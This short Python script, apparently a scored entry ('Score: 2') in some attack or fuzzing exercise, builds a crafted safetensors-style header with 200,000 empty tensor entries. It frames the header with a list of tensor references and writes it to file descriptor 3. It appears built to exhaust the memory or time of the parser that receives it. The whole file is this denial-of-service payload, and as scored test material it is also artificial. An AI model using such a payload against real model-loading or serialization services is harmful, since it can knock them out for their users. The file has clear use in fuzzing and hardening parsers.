"""Empty tensors without end: few bytes each here, many there.

Score: 2
"""

import json
import os
import struct


def frame(header, payload=b""):
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<II", len(text), len(payload)) + text + payload


def double(X):
    entry = {"dtype": "F32", "shape": [0], "data_offsets": [0, 0]}
    text = json.dumps({str(i): entry for i in range(200_000)}).encode()
    value = {"t": "list", "v": [{"t": "tensor", "v": i} for i in range(100)]}
    os.write(3, frame({"id": 2, "value": value}, struct.pack("<Q", len(text)) + text))
    return X
